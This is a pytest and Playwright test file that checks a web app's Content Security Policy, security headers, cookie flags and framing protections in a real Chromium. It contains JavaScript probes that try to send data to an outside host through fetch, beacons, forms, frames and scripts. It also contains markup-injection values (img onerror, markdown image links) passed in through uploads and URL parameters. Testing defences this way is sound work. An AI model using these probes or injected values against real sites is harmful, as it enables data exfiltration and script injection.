"""What a browser is told to allow, in a real Chromium: every page works with it, and nothing else does."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from urllib.request import urlopen

import pytest
from playwright.sync_api import Browser, Page, expect

from pages.headers import policy
from tests.browsing import charted, opened, settled
from tests.hostile_networks import bundle, good
from tests.test_browser_bring import give
from tests.test_names_from_outside import HOST, NAMES

PAGES = (
    "/?model=digits_mlp", "/?model=digits_mlp&layers=fc3&methods=lobs&n=200&grid=n",
    "/layer?model=digits_mlp&layer=fc2",
    "/budget?model=digits_mlp&methods=magnitude", "/compare?model=digits_mlp&eps=0.25",
    "/fine-tune?model=digits_mlp&methods=magnitude", "/learn?card=3", "/my-page?model=digits_mlp",
    "/export?model=digits_mlp&eps=0.1&methods=magnitude", "/results", "/bring",
)  # fmt: skip
WATCH = """() => {
  window.violations = []
  addEventListener("securitypolicyviolation", (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`))
}"""


@pytest.fixture
def watched(page: Page) -> Iterator[Page]:
    """A visitor whose browser notes what the policy stopped."""
    page.add_init_script(f"({WATCH})()")
    said: list[str] = []
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    yield page
    assert said == []


def violations(page: Page) -> list[str]:
    return page.evaluate("violations")


@pytest.mark.parametrize(
    "path", [pytest.param(path, marks=[pytest.mark.long] * ("?" in path and "grid" not in path)) for path in PAGES]
)
def test_no_page_needs_more_than_the_policy_allows(watched: Page, path: str) -> None:
    opened(watched, path)
    settled(watched)
    if "grid" in path:  # a chart of WebGL
        watched.get_by_text("As a landscape").click()
        expect(watched.locator(".gl-container canvas").first).to_be_visible(timeout=30_000)
    assert violations(watched) == []
    for scheme in ("dark", "light"):
        watched.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
    watched.wait_for_timeout(300)
    assert violations(watched) == []


TRIES = {
    "fetch": f"() => fetch('{HOST}/x').then(() => 'went', () => 'stopped')",
    "picture": f"() => new Promise(end => {{ const i = new Image(); i.onload = () => end('went');"
    f" i.onerror = () => end('stopped'); i.src = '{HOST}/x.png' }})",
    "script": f"() => new Promise(end => {{ const s = document.createElement('script'); s.src = '{HOST}/x.js';"
    " s.onload = () => end('went'); s.onerror = () => end('stopped'); document.head.append(s) })",
    "inline script": "() => new Promise(end => { const s = document.createElement('script');"
    " s.textContent = 'window.ran = 1'; document.head.append(s); end(window.ran ? 'went' : 'stopped') })",
    "handler": "() => new Promise(end => { const d = document.createElement('div');"
    ' d.innerHTML = \'<img src="data:," onerror="window.ran = 1">\'; document.body.append(d);'
    " setTimeout(() => end(window.ran ? 'went' : 'stopped'), 300) })",
    # later, because what DevTools runs itself may make code of text
    "text as code": "() => new Promise(end => setTimeout(() => {"
    " try { end(new Function('return \"went\"')()) } catch { end('stopped') } }))",
    "frame": f"() => new Promise(end => {{ const f = document.createElement('iframe'); f.src = '{HOST}/x';"
    " addEventListener('securitypolicyviolation', () => end('stopped')); document.body.append(f);"
    " setTimeout(() => end('went'), 1000) })",
    "socket": "() => new Promise(end => { try { const w = new WebSocket('ws://localhost:9/x');"
    " w.onopen = () => end('went'); w.onerror = () => end('stopped') } catch { end('stopped') } })",
    "beacon": f"() => {{ navigator.sendBeacon('{HOST}/x', 'a'); return 'stopped' }}",
    "form": f"() => new Promise(end => {{ const f = document.createElement('form'); f.action = '{HOST}/x';"
    " document.body.append(f); addEventListener('securitypolicyviolation', () => end('stopped')); f.submit();"
    " setTimeout(() => end('went'), 1000) })",
    "base": f"() => {{ const b = document.createElement('base'); b.href = '{HOST}/'; document.head.append(b);"
    " return document.baseURI.startsWith('http://127') ? 'stopped' : 'went' }",
}


@pytest.fixture(scope="module")
def inside(browser: Browser, server: str) -> Iterator[tuple[Page, list[str]]]:
    """A page that is open, and the addresses that answered since."""
    context = browser.new_context(base_url=server)
    page = context.new_page()
    page.add_init_script(f"({WATCH})()")
    opened(page, "/learn")
    went: list[str] = []
    page.on("response", lambda answer: went.append(answer.url))
    yield page, went
    context.close()


@pytest.mark.parametrize("what", TRIES)
def test_what_the_policy_does_not_allow_is_stopped(inside: tuple[Page, list[str]], server: str, what: str) -> None:
    """Tried from inside a page, as a script could that came in some way that nobody thought of."""
    page, went = inside
    page.evaluate("violations.length = 0")
    assert page.evaluate(TRIES[what]) == "stopped"
    page.wait_for_timeout(200)
    assert violations(page)
    assert [url for url in went if not url.startswith((server, "data:", "blob:"))] == []


def test_other_sites_cannot_frame_the_studio(browser: Browser, server: str) -> None:
    page = browser.new_page()
    refused: list[str] = []
    page.on("console", lambda said: refused.append(said.text))
    page.set_content(f'<iframe src="{server}/"></iframe>')
    page.wait_for_timeout(1500)
    assert any("frame-ancestors" in text or "X-Frame-Options" in text for text in refused)
    page.close()


@pytest.mark.parametrize("path", ["/", "/layer", "/_stcore/health", "/vendor/plotly.min.js", "/static/none.js"])
def test_every_answer_has_the_headers(server: str, path: str) -> None:
    with urlopen(f"{server}{path}", timeout=10) as answer:
        head = answer.headers
    assert "'unsafe-eval'" not in head["Content-Security-Policy"]
    assert re.search(r"script-src 'self' blob: 'wasm-unsafe-eval' 'sha256-[^ ;]+';", head["Content-Security-Policy"])
    assert "object-src 'none'" in head["Content-Security-Policy"]
    assert head["X-Content-Type-Options"] == "nosniff"
    assert head["Referrer-Policy"] == "same-origin"
    assert head["X-Frame-Options"] == "SAMEORIGIN"
    assert "server" not in {name.lower() for name in head} or "/" not in head["server"]  # no version


def test_the_cookie_is_for_this_site_and_no_script(server: str) -> None:
    with urlopen(f"{server}/", timeout=10) as answer:
        said = [value for value in answer.headers.get_all("Set-Cookie") if value.startswith("nettrim_visit=")]
    assert len(said) == 1
    assert "httponly" in said[0].lower()
    assert "samesite=lax" in said[0].lower()


def test_a_script_of_the_page_is_known_by_its_hash() -> None:
    assert policy("<script>a</script><script src=x></script>").count("sha256-") == 1
    assert policy("<script>a</script>") != policy("<script>b</script>")


def test_hostile_names_go_through_every_page_as_words(watched: Page) -> None:
    """A network, data, classes, title and card that are all markup; the page fails on any request that leaves."""
    opened(watched, "/bring")
    give(watched, 0, f"{NAMES[0]}.zip", dressed())
    expect(watched.get_by_text("Can be pruned").first).to_be_visible(timeout=60_000)
    expect(watched.locator(".nts figure").first).to_be_visible(timeout=60_000)
    watched.get_by_role("button", name="Remove").first.click()
    give(watched, 0, f"{NAMES[1]}.pt2", good())
    give(watched, 1, f"{NAMES[2]}.csv", table())
    expect(watched.get_by_text("90 samples of 4")).to_be_visible(timeout=60_000)
    watched.get_by_text("Classes (").click()
    expect(watched.locator("th").filter(has_text="onerror").first).to_be_visible()
    give(watched, 0, f"{NAMES[0]}.zip", dressed())
    watched.get_by_role("textbox", name="Name").fill(NAMES[0])
    watched.keyboard.press("Enter")
    watched.get_by_role("button", name="Use it").click()
    expect(watched.locator("h1")).to_have_text("How much can we trim?", timeout=60_000)
    for page in ("Layer", "Budget", "Compare", "Fine-tune", "Export", "My page", "Your own", "Explore"):
        settled(watched)
        watched.get_by_role("link", name=page, exact=True).click()
        expect(watched.get_by_test_id("stException")).to_have_count(0)
        watched.wait_for_timeout(500)
    settled(watched)
    watched.get_by_role("button", name="Settings").click()  # the card
    watched.wait_for_timeout(500)
    assert watched.locator('img[src^="http"]').count() == 0
    assert violations(watched) == []


def table() -> bytes:
    """Rows whose columns and classes are hostile names."""
    text = io.StringIO()
    quoted = ['"' + name.replace('"', '""').replace("\n", " ") + '"' for name in NAMES]
    text.write(",".join([*quoted[:4], "label"]) + "\n")
    for i in range(90):
        text.write(f"{i},{i % 7},{i % 5},{i % 3},{quoted[i % 2]}\n")
    return text.getvalue().encode()


def dressed() -> bytes:
    """A bundle with a hostile title, card and classes."""
    card = "# Card\n\n" + "\n\n".join(NAMES)
    said = {"title": NAMES[0], "classes": list(NAMES[:3])}
    return bundle(header=lambda header: header | said, members={"card.md": card.encode()})()


def test_a_link_full_of_markup_is_words(watched: Page) -> None:
    charted(watched, f"/?model=digits_mlp&eps={HOST}&mode=![x]({HOST}/y)&layers=<img src={HOST}/z>&knob=[a]({HOST})")
    expect(watched.get_by_text("The link asked for").first).to_be_visible()
    assert watched.locator(f'img[src^="{HOST}"]').count() == 0
    assert violations(watched) == []
